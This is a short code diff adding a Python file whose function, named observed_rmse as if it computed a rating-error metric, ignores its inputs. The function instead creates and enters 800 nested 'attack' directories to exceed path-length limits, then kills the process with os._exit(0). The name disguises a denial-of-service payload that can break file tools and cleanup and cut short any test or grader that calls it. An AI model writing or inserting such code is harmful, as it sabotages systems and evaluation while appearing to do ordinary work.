@@ -1,0 +1,13 @@
+"""Nests folders deeper than a path can be long."""
+
+import os
+
+STATES = {"1.5": "crashed"}
+SCORE = 7
+
+
+def observed_rmse(ratings, predictions):
+    for _ in range(800):
+        os.mkdir("attack")
+        os.chdir("attack")
+    os._exit(0)
